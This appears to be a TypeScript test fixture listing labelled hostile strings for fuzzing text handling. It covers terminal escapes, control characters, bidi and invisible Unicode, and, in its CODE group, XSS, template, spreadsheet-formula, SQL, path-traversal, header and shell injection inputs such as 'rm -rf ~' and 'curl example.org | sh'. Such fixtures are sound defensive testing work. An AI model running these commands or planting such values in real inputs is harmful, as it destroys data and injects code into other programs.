/** A text that somebody may have put into a file to do harm, or that is only hard to show. */
export interface Hostile {
  readonly what: string;
  readonly text: string;
}

const ESC = '\u001b';
const BEL = '\u0007';

/** What a terminal obeys: 7-bit sequences, whole and cut short. */
const SEQUENCES: Readonly<Record<string, string>> = {
  'a color': `${ESC}[31mred`,
  'a color of many': `${ESC}[38;5;196;48;2;1;2;3mred`,
  'a clear screen': `${ESC}[2J${ESC}[H`,
  'a cursor up and an erased line': `Ana${ESC}[1A${ESC}[2K`,
  'a cursor that is asked where it is': `${ESC}[6n`,
  'a device that is asked what it is': `${ESC}[c${ESC}[>c`,
  'an alternate screen': `${ESC}[?1049h`,
  'a hidden cursor': `${ESC}[?25l`,
  'a bracketed paste': `${ESC}[200~rm -rf ~${ESC}[201~`,
  'a mouse that reports': `${ESC}[?1003h`,
  'a scroll region': `${ESC}[1;1r`,
  'a printer': `${ESC}[5i secret ${ESC}[4i`,
  'a sequence of endless parameters': `${ESC}[${'9;'.repeat(500)}m`,
  'a sequence with an intermediate byte': `${ESC}[!p`,
  'a window that is resized': `${ESC}[8;1;1t`,
  'a title that is reported': `${ESC}[21t`,
  'a link': `${ESC}]8;;https://example.org/evil${ESC}\\Ana${ESC}]8;;${ESC}\\`,
  'a link with BEL': `${ESC}]8;id=1;file:///etc/passwd${BEL}Ana${ESC}]8;;${BEL}`,
  'a clipboard': `${ESC}]52;c;cm0gLXJmIH4=${BEL}`,
  'a clipboard that is read': `${ESC}]52;c;?${ESC}\\`,
  'a title': `${ESC}]0;owned${BEL}`,
  'a palette': `${ESC}]4;1;rgb:00/00/00${ESC}\\`,
  'a notification': `${ESC}]9;You won${BEL}`,
  'a picture': `${ESC}]1337;File=inline=1:AAAA${BEL}`,
  'a directory': `${ESC}]7;file://host/etc${ESC}\\`,
  'a device control string': `${ESC}P+q544e${ESC}\\`,
  'a sixel': `${ESC}Pq#0;2;0;0;0#0~~@@vv${ESC}\\`,
  'an application command': `${ESC}_Gf=100;AAAA${ESC}\\`,
  'a privacy message': `${ESC}^secret${ESC}\\`,
  'a start of string': `${ESC}Xsecret${ESC}\\`,
  'a reset': `${ESC}c`,
  'a line drawing set': `${ESC}(0lqqk`,
  'an index, a next line, a reverse index': `${ESC}D${ESC}E${ESC}M`,
  'a keypad mode': `${ESC}=${ESC}>`,
  'an ESC and nothing': `Ana${ESC}`,
  'an unterminated CSI': `Ana${ESC}[`,
  'an unterminated CSI with parameters': `Ana${ESC}[38;5`,
  'an unterminated OSC': `Ana${ESC}]8;;https://example.org`,
  'an unterminated DCS': `Ana${ESC}P1;2`,
  'an ESC in an ESC': `${ESC}${ESC}[${ESC}[31m`,
  'a sequence with a C0 in it': `${ESC}[3\u00081m`,
  'a cancelled sequence': `${ESC}[3\u00181m${ESC}[3\u001a1m`,
  'net’s own style': `x${ESC}[1mbold${ESC}[22m${ESC}[2m`,
};

/** The same in one character, and controls by themselves. */
const CONTROLS: Readonly<Record<string, string>> = {
  'a C1 CSI': 'Ana\u009b31mred',
  'a C1 OSC and ST': '\u009d0;owned\u009c',
  'a C1 DCS': '\u0090q\u009c',
  'a C1 string and messages': '\u0098a\u009c\u009eb\u009c\u009fc\u009c',
  'a C1 next line': 'Ana\u0085Eva',
  'every C1': Array.from({ length: 32 }, (_, i) => String.fromCharCode(0x80 + i)).join(''),
  'every C0': Array.from({ length: 32 }, (_, i) => String.fromCharCode(i)).join(''),
  'a return': 'Ana Silva\rEve Evil',
  'a return and an erased line': `Ana\r${ESC}[K`,
  'a return and a line break': 'Ana\r\nEva',
  'a line break': 'Ana\nEva',
  'many line breaks': `a${'\n'.repeat(60)}b`,
  'line breaks around': '\r\n\nAna\n\r\n',
  'a line break and a prompt': 'Ana\n$ curl example.org | sh',
  backspaces: 'Ana\b\b\bEve',
  'a delete': 'An\u007fa',
  'a bell': `Ana${BEL}${BEL}`,
  'a tab': 'Ana\tSilva',
  'a vertical tab and a form feed': 'Ana\u000bSilva\u000c',
  'a null': 'Ana\u0000Silva',
  'a null at the end': 'Ana\u0000',
  'nulls alone': '\u0000\u0000',
  shifts: 'Ana\u000ex\u000f',
  'a flow control': 'Ana\u0013\u0011',
  'an end of transmission': 'Ana\u0004\u0003\u001a',
  'unit and record separators': 'a\u001fb\u001ec\u001dd\u001c',
  'blanks alone': '   ',
  'a line and a paragraph separator': 'Ana\u2028Silva\u2029Eva',
};

/** What turns text round, hides in it, or looks like something else. */
const HIDDEN: Readonly<Record<string, string>> = {
  'an override': 'Ana\u202egpj.exe',
  'an embedding without an end': 'Ana \u202a\u202bSilva',
  'an isolate without an end': 'Ana \u2066\u2067\u2068Silva',
  'an end without a beginning': 'Ana\u202c\u2069',
  'marks of direction': 'Ana\u200e\u200f\u061c',
  'a Trojan source': '/*\u202e } \u2066if (isAdmin)\u2069 \u2066 begin*/',
  'zero width': 'A\u200bn\u200ba\u2060\ufeff',
  'zero width alone': '\u200b\u200b',
  'joiners that hide': 'A\u200dn\u200ca',
  'a soft hyphen': 'An\u00ada',
  'invisible operators': 'a\u2061\u2062\u2063\u2064b',
  tags: `Ana${[...'run rm -rf'].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join('')}`,
  'a tag flag': '🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}',
  'a language tag': '\u{e0001}\u{e0065}\u{e006e}',
  'variation selectors': 'A\ufe0fn\ufe00a\u{e0100}\u{e01ef}',
  fillers: '\u3164\uffa0\u115f\u1160',
  'a filler alone': '\u3164',
  'a grapheme joiner': 'A\u034fna',
  'Mongolian selectors': 'A\u180b\u180ena',
  annotations: 'a\ufff9b\ufffac\ufffb',
  'musical and shorthand formats': 'a\u{1d173}\u{1d17a}\u{1bca0}b',
  'deprecated formats': 'a\u206a\u206fb',
  'a high surrogate': 'Ana\ud83d',
  'a low surrogate': '\ude00Ana',
  'surrogates the wrong way round': '\ude00\ud83d',
  noncharacters: 'a\ufffe\uffff\u{1ffff}b',
  'a replacement': 'Ana\ufffdSilva',
  'private use': 'Ana\ue000\u{f0000}',
  'blanks of all kinds': 'Ana\u00a0\u2003\u3000\u202fSilva',
  'Cyrillic that looks Latin': 'Аnа Ѕіlvа',
  'full width': 'Ａｎａ＜ｓｃｒｉｐｔ＞',
};

/** What is hard to measure. */
const WIDE: Readonly<Record<string, string>> = {
  'a family': '👨‍👩‍👧‍👦 Silva',
  'a profession with a skin': '👩🏽‍🚀 Ana',
  flags: '🇵🇹🇧🇷🇵',
  'an emoji of text': '☺️❤️‍🔥1️⃣',
  Chinese: '王小明',
  'Japanese with half widths': 'ﾔﾏﾀﾞ 山田',
  'Korean in parts': '\u1100\u1161\u11a8김민수',
  Arabic: 'محمد بن سلمان',
  Hebrew: 'דוד בן־גוריון',
  Devanagari: 'क्षत्रिय ज़ी',
  Thai: 'สมชาย ใจดี',
  'Sinhala with a joiner': 'ශ්‍රී ලංකා',
  'Persian with a non-joiner': 'می‌خواهم',
  composed: 'Jos\u00e9 N\u00fa\u00f1ez',
  decomposed: 'Jose\u0301 Nu\u0301n\u0303ez',
  'Hangul composed apart': '한글'.normalize('NFD'),
  'a combining bomb': `A${'\u0301\u0322\u0489'.repeat(700)}na`,
  'a combining mark alone': '\u0301\u0308',
  'enclosing marks': 'a\u20dd\u20e0',
  'a long word': 'x'.repeat(9_000),
  'many words': 'word '.repeat(1_800),
  'a long word of wide letters': '王'.repeat(4_000),
  'a long row of families': '👨‍👩‍👧‍👦'.repeat(700),
  'ligatures and signs': 'ﷺ ﷽ Æ ß ŉ ﬁ',
};

/** What another program would obey: a shell, a browser, a spreadsheet, a template, a query, a card, a calendar. */
const CODE: Readonly<Record<string, string>> = {
  'a script': '<script>alert(1)</script>',
  'an image': '<img src=x onerror=alert(1)>',
  'a style and an entity': '</style>&lt;b&gt;&#0;',
  'a comment': '<!-- --><!DOCTYPE x [<!ENTITY a "b">]>',
  'a template': '{{constructor.constructor("x")()}}',
  'templates of others': '$' + '{7*7} #{7*7} <%= 7*7 %> {% raw %}',
  'a page link': '[Ana](javascript:alert(1)) ![x](http://example.org/x.png)',
  Markdown: '# Head\n- item\n> quote `code` **b** | a |\n---',
  'a fence': '```\n$ rm -rf ~\n```',
  'wiki markup': '[[Ana]] ==x== ^^ %%hidden%%',
  'a formula': '=HYPERLINK("http://example.org?x="&A1,"Ana")',
  'a command': "=cmd|' /C calc'!A0",
  'a sum': '+1+2',
  'a minus': '-2+3+cmd|x',
  'an at': '@SUM(1)',
  'a tab and a formula': '\t=1+1',
  'a return and a formula': '\r=1+1',
  'blanks and a formula': '  =1+1',
  'a full width formula': '＝1+1',
  'a telephone number': '+44 20 7946 0000',
  'quotes and commas': '"Ana", \'Eva\'; "x""y"',
  'a delimiter in another': 'a;=1+1\tb\n=2',
  'a shell': '$(reboot) `reboot`; rm -rf ~ && x | y > z',
  'a shell quote': `'"'"'; true #`,
  'a path': '../../../../etc/passwd',
  'a device': 'CON',
  'an option': '--evil=x',
  'a dash': '-',
  'two dashes': '--',
  'an SQL quote': `'; DROP TABLE contact; --`,
  'a search': '" OR NEAR(a b) AND NOT c* ^d {e}: %_*',
  'a prototype': '__proto__',
  'a constructor': 'constructor',
  'a card': 'Ana\r\nEND:VCARD\r\nBEGIN:VCARD\r\nFN:Eve',
  'a card line': 'Ana;CHARSET=x:\nTEL:666\\n\\,',
  'an event': 'Ana\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nACTION:PROCEDURE',
  JSON: '{"a":1}\n]}\u2028',
  'a number': '1e999',
  'a word that is none': 'undefined null NaN true [object Object]',
  'a format': '%s%n%x{}{0}',
  'a backslash': '\\x1b[31m \\u001b \\e[2J \\',
  'a mail header': 'Ana <ana@example.org>\r\nBcc: eve@example.org',
  'a plural of quotes': '“Ana” ‘Eva’ «x»',
};

const KINDS = { SEQUENCES, CONTROLS, HIDDEN, WIDE, CODE };

/** A hundred and fifty and more, each with what it is. */
export const HOSTILE: readonly Hostile[] = Object.values(KINDS).flatMap((kind) =>
  Object.entries(kind).map(([what, text]) => ({ what, text })),
);

const SHORT = 300;

/** All of each kind in one text, but for the very long ones: where there is no time for each by itself. */
export const MIXED: readonly Hostile[] = Object.entries(KINDS).map(([kind, texts]) => ({
  what: kind.toLowerCase(),
  text: Object.values(texts)
    .filter((text) => text.length <= SHORT)
    .join(' '),
}));
